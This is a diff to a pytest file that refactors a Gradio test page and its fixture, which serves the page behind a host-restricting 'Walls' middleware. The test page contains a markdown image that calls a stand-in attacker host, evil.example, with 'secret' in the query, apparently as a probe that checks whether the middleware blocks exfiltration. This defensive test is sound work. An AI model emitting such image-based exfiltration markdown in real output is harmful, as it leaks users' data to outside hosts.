@@ -279,9 +279,8 @@ element.querySelector('button').addEventListener('click', () => { props.value = 
 """
 
 
-@pytest.fixture
-def gradio_site() -> Iterator[str]:
-    """A Gradio page behind the walls, launched as app.py does it."""
+def build() -> Any:
+    """A page with the components that ask most of a policy: streaming, a component of our own, files, code."""
     import gradio as gr
 
     def stream_out(text: str) -> Iterator[str]:
@@ -300,12 +299,14 @@ def gradio_site() -> Iterator[str]:
         file.upload(lambda f: f.name.rpartition("/")[2], file, name)
         gr.Code("print(1)", language="python")
         gr.Markdown("![secret](https://evil.example/?q=secret)")
+    return demo
+
+
+@pytest.fixture
+def gradio_site(launch: Callable[..., str]) -> str:
+    """A Gradio page behind the walls, passed as the app passes them."""
     walls = Middleware(Walls, allowed_hosts=hosts_for("127.0.0.1"))
-    _, url, _ = demo.launch(
-        app_kwargs={"middleware": [walls]}, prevent_thread_lock=True, quiet=True, server_port=None, run_history=False
-    )
-    yield url
-    demo.close()
+    return launch(build, app_kwargs={"middleware": [walls]}, run_history=False)
 
 
 @pytest.mark.browser
